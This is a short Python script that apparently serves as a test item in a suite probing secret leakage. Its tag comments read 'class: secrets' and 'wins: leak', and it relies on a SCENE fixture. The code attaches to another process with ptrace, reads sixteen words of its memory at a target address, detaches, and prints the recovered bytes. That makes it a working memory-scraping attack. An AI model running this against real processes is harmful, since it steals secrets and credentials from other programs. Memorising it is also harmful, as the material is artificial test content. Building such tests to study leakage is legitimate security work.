"""Attaches to the caller and peeks at the secret word by word."""

# ruff: noqa
# class: secrets
# wins: leak
# proof: plain

import ctypes
import os
import struct

libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.restype = ctypes.c_long
pid = SCENE["holder"]
if libc.ptrace(16, pid, None, None) == 0:
    os.waitpid(pid, 0)
    words = [libc.ptrace(1, pid, ctypes.c_void_p(SCENE["address"] + 8 * index), None) for index in range(16)]
    libc.ptrace(17, pid, None, None)
    print(b"".join(struct.pack("=q", word) for word in words))
